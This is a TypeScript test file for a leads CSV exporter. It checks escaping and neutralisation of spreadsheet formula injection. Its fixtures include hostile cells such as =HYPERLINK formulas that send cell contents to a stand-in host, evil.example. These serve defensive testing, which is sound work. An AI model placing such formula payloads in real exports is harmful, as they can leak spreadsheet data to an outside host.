import { describe, expect, it } from 'vitest';
import { parseCsv } from '../testing/csv.ts';
import { csvCell, leadsCsvFilename, leadsToCsv, type CsvLead } from './csv.ts';

const lead = (overrides: Partial<CsvLead> = {}): CsvLead => ({
  name: 'Jordan Rivera',
  email: 'jordan@example.com',
  phone: null,
  company: null,
  serviceType: 'Real Estate',
  status: 'in_progress',
  isSocialEquityApplicant: false,
  message: 'Hello there, friends.',
  createdAt: new Date('2026-11-21T14:03:00Z'),
  ...overrides,
});

describe('csvCell', () => {
  it.each([
    [
      '=HYPERLINK("http://evil.example","click")',
      `"'=HYPERLINK(""http://evil.example"",""click"")"`,
    ],
    ['+1', "'+1"],
    ['-2', "'-2"],
    ['@SUM(1)', "'@SUM(1)"],
    ['\tleading tab', "'\tleading tab"],
    ['\rleading CR', `"'\rleading CR"`],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['line one\nline two', '"line one\nline two"'],
    ['Zoë 東京', 'Zoë 東京'],
    ['plain', 'plain'],
    ['', ''],
  ])('writes %j as %j', (input, expected) => {
    expect(csvCell(input)).toBe(expected);
  });

  it('leaves formula characters alone when they are not first', () => {
    expect(csvCell('a=b+c-d@e')).toBe('a=b+c-d@e');
  });
});

describe('leadsToCsv', () => {
  it('starts with a BOM, has the spec columns and CRLF rows, labels and Yes/No', () => {
    const csv = leadsToCsv([
      lead({ isSocialEquityApplicant: true, phone: '413-555-0100', company: 'Acme' }),
    ]);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(csv.endsWith('\r\n')).toBe(true);
    expect(parseCsv(csv.slice(1))).toEqual([
      [
        'Date',
        'Name',
        'Email',
        'Phone',
        'Company',
        'Service',
        'Status',
        'Social Equity',
        'Message',
      ],
      [
        '2026-11-21T14:03:00.000Z',
        'Jordan Rivera',
        'jordan@example.com',
        '413-555-0100',
        'Acme',
        'Real Estate',
        'In Progress',
        'Yes',
        'Hello there, friends.',
      ],
    ]);
  });

  it('round-trips hostile values cell by cell, neutralising formulas', () => {
    const hostile = lead({
      name: '=HYPERLINK("http://evil.example?x="&A1,"Open")',
      email: '@SUM(1)@example.com',
      phone: '+1 413 555 0100',
      company: '-2+3',
      message: 'Line 1, with "quotes"\r\nLine 2\nZoë 東京',
      status: 'mystery',
    });
    const [, row] = parseCsv(leadsToCsv([hostile]).slice(1));
    expect(row).toEqual([
      '2026-11-21T14:03:00.000Z',
      `'=HYPERLINK("http://evil.example?x="&A1,"Open")`,
      "'@SUM(1)@example.com",
      "'+1 413 555 0100",
      "'-2+3",
      'Real Estate',
      'New',
      'No',
      'Line 1, with "quotes"\r\nLine 2\nZoë 東京',
    ]);
    // No cell of the data row begins with a character a spreadsheet would evaluate.
    for (const cell of row ?? []) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('names the file with a prefix and the ISO date', () => {
    expect(leadsCsvFilename(new Date('2026-11-21T23:59:00Z'))).toBe('leads-2026-11-21.csv');
  });
});
